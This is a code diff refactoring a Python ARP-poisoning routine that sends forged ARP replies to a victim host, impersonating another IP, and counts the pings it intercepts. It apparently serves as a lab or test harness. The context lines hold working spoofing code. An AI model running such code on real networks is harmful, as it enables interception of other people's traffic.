@@ -69,7 +69,6 @@ def poison(interface: str, victim: str, victim_mac: str, posed: str) -> int:
         Ether(src=mac, dst=victim_mac)
         / ARP(op="is-at", hwsrc=mac, psrc=posed, hwdst=victim_mac, pdst=victim)
     )
-    wanted = ADDRESSES.pack(IPv4Address(victim).packed, IPv4Address(posed).packed)
     signal.signal(signal.SIGTERM, end)
     next_s = time.monotonic()
     try:
@@ -80,18 +79,19 @@ def poison(interface: str, victim: str, victim_mac: str, posed: str) -> int:
                     print("sent", flush=True)
                 announced, next_s = True, next_s + LIE_PERIOD_S
             if select.select([channel], [], [], max(0.0, next_s - time.monotonic()))[0]:
-                caught += is_ping(channel.recv(65_536), mac, wanted)
+                caught += is_ping(channel.recv(65_536), mac, victim, posed)
     except Ended:
         while select.select([channel], [], [], 0.0)[0]:  # what has come before that
-            caught += is_ping(channel.recv(65_536), mac, wanted)
+            caught += is_ping(channel.recv(65_536), mac, victim, posed)
         return caught
 
 
-def is_ping(frame: bytes, mac: bytes, wanted: bytes) -> bool:
-    """Whether a frame is a ping for this hardware address and between these IPv4 addresses."""
+def is_ping(frame: bytes, mac: bytes, victim: str, posed: str) -> bool:
+    """Whether a frame is a ping for this hardware address, from one IPv4 address to the other."""
     if len(frame) <= TYPE_AT:
         return False
     to, _source, kind = ETHERNET.unpack_from(frame)
+    wanted = ADDRESSES.pack(IPv4Address(victim).packed, IPv4Address(posed).packed)
     found = frame[ADDRESSES_AT : ADDRESSES_AT + ADDRESSES.size]
     echo = frame[PROTOCOL_AT], frame[TYPE_AT]
     return (to, kind, found, echo) == (mac, 0x0800, wanted, (ICMP, ECHO_REQUEST))
